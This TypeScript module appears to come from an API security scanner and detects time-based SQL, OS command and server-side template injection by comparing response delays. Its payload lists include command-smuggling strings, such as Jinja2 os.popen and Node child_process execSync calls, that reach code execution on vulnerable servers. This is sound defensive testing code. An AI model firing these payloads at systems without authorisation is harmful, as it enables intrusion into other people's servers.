/**
 * Time-based injection with evidence a reviewer accepts: the answer's delay must follow the number
 * in the payload. Per operation several baseline samples; per payload one asking for N seconds,
 * a control asking for 0 (the same payload, so the same parsing path) and one asking for 2N. Only
 * when N is slow, 0 is not, and 2N is slower again by about N is it injection. A timeout is not a
 * delay (a hang proves no sleep ran), and an answer slow whatever the number is a slow endpoint.
 *
 * Payload families are tried apart and the finding names the one whose payload worked: SQL
 * (a sleep function of MySQL, PostgreSQL or SQL Server), OS command (shell sleep, Windows ping)
 * and server-side template (template code that sleeps: Jinja2, ERB, EJS/JavaScript, Spring EL).
 */
import type { Operation } from '../../openapi/index.js';
import { sendOp, type ScanContext, type Sent } from '../context.js';
import type { RequestValues } from '../request.js';
import { OWASP, type Identity } from '../types.js';
import type { InputSpot } from './inputs.js';

export interface Family {
  readonly kind: 'sql' | 'command' | 'template';
  readonly ruleId: string;
  readonly title: string;
  /** Each payload as a function of the seconds it asks for. */
  readonly payloads: readonly ((seconds: number) => string)[];
}

export const FAMILIES: readonly Family[] = [
  {
    kind: 'sql', ruleId: 'injection.sql-time', title: 'SQL injection (time-based)',
    payloads: [
      // Derived tables are evaluated once, whatever the rows: the delay is d, not d per row.
      (d) => `' AND (SELECT 1 FROM (SELECT SLEEP(${d}))gh)-- -`,
      (d) => `1 AND (SELECT 1 FROM (SELECT SLEEP(${d}))gh)`,
      (d) => `'||(SELECT '' FROM pg_sleep(${d}))||'`,
      // A sleep function in a concatenated string: per row, so the delay is a multiple of d.
      (d) => `'||SLEEP(${d})||'`,
      (d) => `';SELECT pg_sleep(${d})--`,
      (d) => `';WAITFOR DELAY '0:0:${d}'--`,
    ],
  },
  {
    kind: 'command', ruleId: 'injection.command-time', title: 'OS command injection (time-based)',
    payloads: [
      (d) => `;sleep ${d};`,
      (d) => `|sleep ${d}`,
      (d) => `$(sleep ${d})`,
      (d) => `\`sleep ${d}\``,
      (d) => `&& sleep ${d}`,
      (d) => `\nsleep ${d}\n`,
      (d) => `& ping -n ${d + 1} 127.0.0.1 &`,
    ],
  },
  {
    kind: 'template', ruleId: 'injection.template-time', title: 'Server-side template injection (time-based)',
    payloads: [
      (d) => `{{cycler.__init__.__globals__.os.popen('sleep ${d}').read()}}`,
      (d) => `<%= sleep(${d}) %>`,
      (d) => `#{sleep(${d})}`,
      (d) => `<%= require('child_process').execSync('sleep ${d}') %>`,
      (d) => `\${require('child_process').execSync('sleep ${d}')}`,
      (d) => `\${T(java.lang.Thread).sleep(${d * 1000})}`,
    ],
  },
];

/** Baseline answer times of one operation: several samples, so one slow moment is not the norm. */
export const BASELINE_SAMPLES = 5;

export function median(xs: readonly number[]): number {
  const s = [...xs].sort((a, b) => a - b);
  return s[Math.floor(s.length / 2)] ?? 0;
}

export interface Timing {
  readonly family: Family;
  readonly payload: (seconds: number) => string;
  readonly n: Sent;
  readonly zero: Sent;
  readonly twice: Sent;
}

/**
 * The first payload whose delay follows its number, or undefined. `baselineMs` is the median of
 * the baseline samples. Costs one request per payload on an endpoint that does not sleep.
 */
export async function timeBased(ctx: ScanContext, op: Operation, who: Identity | undefined, base: RequestValues, spot: InputSpot, baselineMs: number): Promise<Timing | undefined> {
  const d = ctx.tuning.delaySeconds;
  const ms = d * 1000;
  const send = (payload: (s: number) => string, seconds: number): Promise<Sent> =>
    sendOp(ctx, op, spot.set(base, `gh${payload(seconds)}`), who, { timeoutMs: Math.round(baselineMs + seconds * 1000 * 1.5 + 5_000) });
  const usable = (s: Sent): boolean => s.response.error === undefined && s.response.outage !== true && s.response.status > 0;
  // An endpoint slow on payload-like input whatever number it carries (a zero control as slow as
  // the payload) has that slowness as its baseline from then on: one request per payload again.
  let floor = baselineMs;
  for (const family of FAMILIES) {
    for (const payload of family.payloads) {
      const n = await send(payload, d);
      if (!usable(n) || n.response.elapsedMs < floor + ms * 0.8) continue;
      // The same payload asking for no delay: slow too means the slowness is not the sleep.
      const zero = await send(payload, 0);
      if (!usable(zero)) continue;
      if (zero.response.elapsedMs >= floor + ms * 0.5) {
        floor = Math.max(floor, zero.response.elapsedMs);
        continue;
      }
      const twice = await send(payload, d * 2);
      if (!usable(twice) || twice.response.elapsedMs < floor + ms * 1.6 || twice.response.elapsedMs < n.response.elapsedMs + ms * 0.6) continue;
      return { family, payload, n, zero, twice };
    }
  }
  return undefined;
}

export function reportTiming(ctx: ScanContext, op: Operation, spot: InputSpot, t: Timing, baselineMs: number): void {
  const d = ctx.tuning.delaySeconds;
  const ms = (s: Sent): string => `${Math.round(s.response.elapsedMs)} ms`;
  ctx.findings.add({
    ruleId: t.family.ruleId, check: 'injection', severity: 'critical', owasp: OWASP.API8, title: t.family.title,
    operation: op.id, request: t.twice.request, response: t.twice.response, key: `${spot.where}:${spot.name}`,
    evidence: `${spot.where} "${spot.name}": the ${t.family.kind} payload ${JSON.stringify(t.payload(d))} asking for ${d} s answered in ${ms(t.n)}, `
      + `asking for 0 s in ${ms(t.zero)}, asking for ${d * 2} s in ${ms(t.twice)} (baseline median ${Math.round(baselineMs)} ms of ${BASELINE_SAMPLES}): the delay follows the payload`,
  });
}
